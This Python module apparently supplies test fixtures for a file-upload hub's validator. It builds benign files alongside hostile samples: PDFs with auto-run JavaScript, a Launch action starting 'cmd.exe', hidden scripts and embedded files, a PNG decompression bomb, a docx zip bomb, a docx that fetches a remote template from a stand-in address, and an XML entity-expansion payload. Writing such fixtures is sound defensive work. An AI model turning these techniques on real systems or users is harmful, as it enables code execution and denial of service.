"""Small files of every type that the hub takes, and of what it must not take, made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

import pikepdf
from PIL import Image

_OFFICE = "application/vnd.openxmlformats-officedocument"
_MAIN = {
    "word/document.xml": f"{_OFFICE}.wordprocessingml.document.main+xml",
    "xl/workbook.xml": f"{_OFFICE}.spreadsheetml.sheet.main+xml",
}
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def pdf(text: str = "", *, pad: int = 0, **catalog: Any) -> bytes:
    """Return a PDF of one page; `pad` bytes stand in a stream, `catalog` goes into its root."""
    made = pikepdf.new()
    made.add_blank_page()
    made.pages[0].Contents = made.make_stream(f"% {text}".encode() + b" " * pad)
    for name, value in catalog.items():
        made.Root[f"/{name}"] = made.make_indirect(value)
    return _saved(made)


def _saved(made: pikepdf.Pdf, **how: Any) -> bytes:
    place = io.BytesIO()
    made.save(place, static_id=True, compress_streams=False, **how)
    return place.getvalue()


def pdf_with_script(*, signed: bool = False) -> bytes:
    """Return a PDF that runs JavaScript when it is opened."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    if not signed:
        return pdf(OpenAction=action)
    mark = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=[0, 1, 2, 3], Contents=b"x")
    return pdf(OpenAction=action, Perms=pikepdf.Dictionary(DocMDP=mark))


def pdf_with_launch() -> bytes:
    """Return a PDF that starts a program."""
    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))


def pdf_with_file() -> bytes:
    """Return a PDF that carries another file."""
    made = pikepdf.new()
    made.add_blank_page()
    made.attachments["macro.docm"] = b"a file within"
    return _saved(made)


def pdf_with_hidden_script() -> bytes:
    """Return a PDF whose script stands in a compressed object stream, under an escaped name."""
    made = pikepdf.new()
    made.add_blank_page()
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 1, 1],
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
    )
    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(note)]))
    return _saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_password() -> bytes:
    """Return a PDF that needs a password."""
    made = pikepdf.new()
    made.add_blank_page()
    place = io.BytesIO()
    made.save(place, encryption=pikepdf.Encryption(user="x", owner="y"))
    return place.getvalue()


def picture(kind: str, *, size: tuple[int, int] = (8, 8), pages: int = 1) -> bytes:
    """Return a picture: JPEG, PNG or TIFF."""
    place = io.BytesIO()
    made = [Image.new("RGB", size, (nth, 90, 200)) for nth in range(pages)]
    if pages > 1:
        made[0].save(place, kind, save_all=True, append_images=made[1:])
    else:
        made[0].save(place, kind)
    return place.getvalue()


def png_bomb() -> bytes:
    """Return a PNG of some hundred bytes that says it has 3.6 thousand million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10_000))
        + chunk(b"IEND", b"")
    )


def office(main: str = "word/document.xml", parts: Mapping[str, bytes] | None = None) -> bytes:
    """Return a docx (or xlsx) with more parts in it."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main}" ContentType="{_MAIN[main]}"/></Types>'
    )
    place = io.BytesIO()
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as whole:
        whole.writestr("[Content_Types].xml", types)
        whole.writestr(main, "<document/>")
        for name, body in (parts or {}).items():
            whole.writestr(name, body)
    return place.getvalue()


def zip_bomb() -> bytes:
    """Return a docx of some ten KiB that unpacks to 50 MiB."""
    return office(parts={"word/media/image1.bmp": b"\0" * (50 * 1024 * 1024)})


def with_template() -> bytes:
    """Return a docx that has Word fetch a template from elsewhere."""
    told = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        ' Target="http://192.0.2.1/x.dotm"/></Relationships>'
    )
    return office(parts={"word/_rels/settings.xml.rels": told.encode()})


XML = "<?xml version='1.0' encoding='UTF-8'?><hoSo><ten>Đơn</ten></hoSo>".encode()
XML_ENTITIES = (
    b"<!DOCTYPE a [<!ENTITY b 'bbbbbbbbbb'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>"
)
